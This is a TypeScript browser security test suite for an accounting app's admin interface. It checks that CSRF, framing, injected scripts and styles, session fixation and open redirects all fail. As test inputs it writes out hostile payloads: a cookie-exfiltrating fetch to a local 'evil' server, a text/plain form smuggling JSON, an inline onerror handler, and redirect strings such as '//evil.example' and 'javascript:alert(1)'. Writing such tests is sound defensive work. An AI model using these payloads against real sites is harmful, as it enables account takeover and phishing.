/** What a hostile page, a planted cookie and a bent address get from a real browser whose person is signed in: nothing. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { signInTexts } from "../../admin/src/sign-in/sign-in-texts.ts";
import { todayTexts } from "../../admin/src/today/today-texts.ts";
import { type BrowserHub, startBrowserHub } from "../support/browser-hub.ts";
import { openBrowser, type Visit, visit } from "../support/open-browser.ts";
import { enter, password, type Reader, readerOf } from "../support/person-at-browser.ts";

const owner = { name: "Regnskap AS", person: "Rita Regnskap", email: "rita@example.org" };

let hub: BrowserHub;
let browser: Browser;
let key: string;
/** The same host and another port: a browser sends it cookies that it would keep from another site. */
let evil: Server;
let evilUrl: string;
let rita: Awaited<ReturnType<typeof cookiesOf>>;
let window: Visit;

beforeAll(async () => {
  [hub, browser] = await Promise.all([startBrowserHub(), openBrowser()]);
  evil = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<p>Win a prize</p>"));
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  const made = await hub.organisation(owner);
  key = made.key;
  window = await visit(browser, hub);
  await enter(readerOf(window.page, "en"), { invitation: made.invitation, email: owner.email });
  rita = await cookiesOf(window);
  await window.close();
});
afterAll(async () => {
  await browser.close();
  await hub.close();
  evil.close();
});
beforeEach(async () => {
  window = await visit(browser, hub);
});
afterEach(() => window.close());

const cookiesOf = ({ page }: Visit) => page.context().cookies();

async function asRita(): Promise<Reader> {
  const reader = readerOf(window.page, "en");
  await window.page.context().addCookies(rita);
  await window.page.goto("/");
  await isInside(reader);
  return reader;
}

const isInside = ({ page, say }: Reader) =>
  page.getByRole("heading", { level: 1, name: say(todayTexts, "title") }).waitFor();

async function companies(): Promise<number> {
  const answer = await fetch(`${hub.url}/api/v1/companies`, { headers: { authorization: `Bearer ${key}` } });
  return ((await answer.json()) as { items: unknown[] }).items.length;
}

describe("a hostile page in the browser of somebody who is signed in", () => {
  it("reads nothing and changes nothing, by script or by form", async () => {
    const { page } = await asRita();
    await page.goto(evilUrl);
    const company = {
      name: "Evil AS",
      country: "NO",
      currency: "NOK",
      timeZone: "Europe/Oslo",
      externalId: "e",
    };
    const outcomes = await page.evaluate(
      `(async (hub, body) => {
        const ask = (path, init) => fetch(hub + path, { credentials: "include", ...init })
          .then((answer) => answer.type === "opaque" ? "unreadable" : answer.status, () => "refused");
        return [
          await ask("/api/v1/companies"),
          await ask("/api/sign-in/state"),
          await ask("/api/v1/companies", { method: "POST", body, headers: { "content-type": "application/json" } }),
          await ask("/api/v1/companies", { method: "POST", body, mode: "no-cors" }),
          await ask("/api/sign-in/sign-out", { method: "POST", body: "{}", mode: "no-cors" }),
        ];
      })(${JSON.stringify(hub.url)}, ${JSON.stringify(JSON.stringify(company))})`,
    );
    expect(outcomes).toEqual(Array(5).fill("refused"));
    const sent = page.waitForResponse((response) => response.url().endsWith("/api/v1/companies"));
    await page.evaluate(
      `((hub, body) => {
        const form = document.createElement("form");
        Object.assign(form, { method: "post", enctype: "text/plain", action: hub + "/api/v1/companies" });
        const field = document.createElement("input");
        Object.assign(field, { name: body.slice(0, -1) + ',"x":"', value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
      })(${JSON.stringify(hub.url)}, ${JSON.stringify(JSON.stringify(company))})`,
    );
    expect((await sent).status()).toBe(403);
    expect(await companies()).toBe(0);
    await page.goto(hub.url);
    await isInside(readerOf(page, "en"));
  });

  it("cannot put the app into a frame, nor hold on to a window that it opened", async () => {
    const { page } = await asRita();
    await page.goto(evilUrl);
    await page.evaluate(`document.body.innerHTML = "<iframe src='${hub.url}/'></iframe>"`);
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain("chrome-error://chromewebdata/");
    const opened = page.context().waitForEvent("page");
    await page.evaluate(`globalThis.prize = open("${hub.url}/"); 0`);
    await isInside(readerOf(await opened, "en"));
    expect(await page.evaluate("prize.closed")).toBe(true);
  });
});

describe("the policy of the app's pages", () => {
  it("runs no script, no handler and no style that somebody puts in, and sends nothing elsewhere; and a test hears of it", async () => {
    const { page } = await asRita();
    expect(window.complaints()).toEqual([]);
    const broken = (await page.evaluate(`(async () => {
      const broken = new Set();
      document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
      const put = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
      put("script", { textContent: "globalThis.hacked = 'inline'" });
      put("script", { src: "${evilUrl}/evil.js" });
      put("style", { textContent: "body { display: none }" });
      put("div", { innerHTML: "<img src=/nothing onerror=\\"globalThis.hacked = 'handler'\\"><b style='color: red'>x</b>" });
      put("img", { src: "${evilUrl}/pixel" });
      put("iframe", { src: "${evilUrl}/" });
      put("base", { href: "${evilUrl}/" });
      await fetch("${evilUrl}/", { method: "POST", body: document.cookie }).catch(() => null);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return [...broken].sort();
    })()`)) as string[];
    expect(broken).toEqual([
      "base-uri",
      "connect-src",
      "frame-src",
      "img-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
    expect(await page.evaluate("globalThis.hacked ?? null")).toBeNull();
    expect(await page.evaluate("getComputedStyle(document.body).display")).toBe("block");
    expect(window.complaints().length).toBeGreaterThanOrEqual(broken.length);
  });

  it("keeps the session's cookie from scripts, and gives each answer a nonce of its own", async () => {
    const { page } = await asRita();
    expect(await page.evaluate("document.cookie")).toBe("");
    const policies = await Promise.all(
      [1, 2].map(() => fetch(hub.url).then(({ headers }) => headers.get("content-security-policy"))),
    );
    expect(policies[0]).toMatch(
      /^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[\w-]{22}'; /,
    );
    expect(policies[0]).not.toBe(policies[1]);
    expect(policies[0]).not.toMatch(/unsafe|\*/);
  });
});

describe("a cookie that was planted before the sign-in", () => {
  it("is worth nothing afterwards: the session is a new one", async () => {
    const { page } = window;
    const [session] = rita.filter(({ name }) => /session/.test(name));
    const planted = { ...session, name: session?.name ?? "", value: "planted.by-somebody" };
    await page.context().addCookies([{ ...planted, domain: "127.0.0.1", path: "/" }]);
    const reader = readerOf(page, "en");
    const { say, button, field } = reader;
    await page.goto(
      "/sign-in?redirect=https://evil.example&next=//evil.example&callbackURL=https://evil.example",
    );
    await field(say(signInTexts, "email")).fill(owner.email);
    await page.locator('input[name="password"]').fill(password);
    await button(say(signInTexts, "title")).click();
    await isInside(reader);
    expect(page.url()).toBe(`${hub.url}/`);
    const now = (await cookiesOf(window)).filter(({ name }) => name === planted.name);
    expect(now.map(({ httpOnly, sameSite }) => [httpOnly, sameSite])).toEqual([[true, "Lax"]]);
    expect(now[0]?.value).not.toContain("planted");
    const me = (cookie: string) =>
      fetch(`${hub.url}/api/v1/me`, { headers: { cookie: `${planted.name}=${cookie}` } }).then(
        ({ status }) => status,
      );
    expect([await me(planted.value), await me(now[0]?.value ?? "")]).toEqual([401, 200]);
  });
});

describe("an address that was bent", () => {
  it.each([
    "//evil.example/",
    "/\\evil.example",
    "/%2F%2Fevil.example",
    "/sign-in?redirect=//evil.example",
    "/invitation?token=https://evil.example",
    "/connections?connected=https://evil.example",
    "/connect/callback?state=x&code=y&redirect_uri=https://evil.example",
  ])("leads nowhere else: %s", async (address) => {
    const { page } = await asRita();
    await page.goto(hub.url + address);
    await page.waitForLoadState("networkidle");
    expect(new URL(page.url()).origin).toBe(hub.url);
  });

  it.each(["https://evil.example", "//evil.example", "javascript:alert(1)"])(
    "leads to the invitation's page and nowhere else where it stands in an invitation's place: %s",
    async (planted) => {
      const { page } = await asRita();
      await page.evaluate(`sessionStorage.setItem("bilag.invitation", ${JSON.stringify(planted)})`);
      await page.goto("/");
      await page.getByText(readerOf(page, "en").say(signInTexts, "invitation-used")).waitFor();
      expect(new URL(page.url()).origin + new URL(page.url()).pathname).toBe(`${hub.url}/invitation`);
      await page.goto("/");
      await isInside(readerOf(page, "en"));
    },
  );

  it.each(["https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)"])(
    "is no place to go on to after signing in: %s",
    async (callbackURL) => {
      const { status, headers } = await fetch(`${hub.url}/api/sign-in/sign-in/email`, {
        method: "POST",
        redirect: "manual",
        headers: { "content-type": "application/json", origin: hub.url },
        body: JSON.stringify({ email: "nobody@example.org", password, callbackURL }),
      });
      expect([status, headers.get("location")]).toEqual([422, null]);
    },
  );
});
